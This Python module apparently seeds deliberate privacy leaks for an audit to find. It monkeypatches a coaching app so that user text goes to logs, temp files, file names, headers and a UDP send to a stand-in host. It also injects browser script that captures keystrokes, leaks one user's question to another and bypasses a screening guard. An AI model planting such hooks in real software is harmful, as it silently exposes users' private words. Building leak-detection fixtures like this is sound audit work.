"""Leaks on purpose: each keeps words in one of the ways that software keeps them. The audit has to find every one."""

import asyncio
import logging
import os
import socket
import subprocess
import tempfile
import threading
from functools import wraps
from pathlib import Path
from urllib.parse import quote

kept = []
last = ""


def _typed(data):
    return " ".join(v if isinstance(v, str) else " ".join(v) for v in data.values() if isinstance(v, str | list))


def _on_every_request(leak):
    from coach.activities import request

    work = request.parse_request

    @wraps(work)
    def leaky(model, data):
        leak(_typed(data))
        return work(model, data)

    request.parse_request = leaky


def _log_line(text):
    logging.getLogger("somebody").debug("request: %s", text)


def _file_that_stays(text):
    Path(tempfile.gettempdir(), "draft.txt").write_text(text, "utf-8")


def _file_that_goes(text):
    with tempfile.NamedTemporaryFile(prefix="gone-") as file:
        file.write(text.encode("utf-16"))


def _file_name(text):
    Path(os.environ["HOME"], text.split("\n")[0][:60].replace("/", " ")).touch()


def _field_in_the_index(text):
    root = Path(os.environ["COACH_INDEX_DIR"])
    with next(root.glob("*/*/")).joinpath("asked-before.json").open("a", encoding="ascii") as file:
        file.write(ascii(text))


def _value_in_memory(text):
    kept.append(text)


def _argument(text):
    subprocess.run(["true", text], check=False)


def _traceback(text):
    def fail():
        raise ValueError(text)

    thread = threading.Thread(target=fail)
    thread.start()
    thread.join()


def _another_host(text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        try:
            out.connect(("192.0.2.1", 9))
            out.send(text.encode()[:1200])
        except OSError:
            pass


def library():
    leaks = (
        _log_line, _file_that_stays, _file_that_goes, _file_name, _field_in_the_index, _value_in_memory, _argument,
        _traceback, _another_host,
    )  # fmt: skip

    def all_of_them(text):
        for leak in leaks:
            leak(text)

    _on_every_request(all_of_them)


def endpoint():
    """Send more than may be sent: words in a header, a user field, and the mentor's sentences in the body."""
    from coach.guard.screen import Screened
    from coach.writer import endpoint as writer

    def remember(text):
        global last
        last = text

    _on_every_request(remember)
    work = writer._format

    def leaky(mode, schema):
        made = work(mode, schema)
        body = {**made.get("extra_body", {}), "user": "somebody"}
        return {**made, "extra_body": body, "extra_headers": {"x-context": quote(last[:800])}}

    writer._format = leaky
    Screened.usable = lambda self, session=None: self.text


_SCRIPT = """
document.addEventListener("input", (event) => {
  localStorage.setItem("draft", event.target.value);
  document.cookie = "draft=" + encodeURIComponent(event.target.value.slice(0, 200)) + "; max-age=3600";
  fetch("healthz?q=" + encodeURIComponent(event.target.value.slice(0, 200))).catch(() => {});
  const open = indexedDB.open("drafts", 1);
  open.onupgradeneeded = () => open.result.createObjectStore("typed", {autoIncrement: true});
  open.onsuccess = () => {
    open.result.transaction("typed", "readwrite").objectStore("typed").add(event.target.value);
  };
});
"""


def web():
    """Keep words in the browser, in the server's memory, and in what another person is shown."""
    from starlette.responses import Response

    from coach.web import desk, routes

    work, answer = routes._static, desk.Desk.answer

    async def leaky(request):
        response = await work(request)
        if not request.url.path.endswith("app.js"):
            return response
        return Response(response.body + _SCRIPT.encode(), media_type="text/javascript; charset=utf-8")

    def shared(self, page, asked, *rest):
        kept.append(asked)
        before = str(kept[-2]) if len(kept) > 1 else ""
        return {**answer(self, page, asked, *rest), "recent": before}

    assert asyncio.iscoroutinefunction(work)
    routes._static = leaky
    desk.Desk.answer = shared
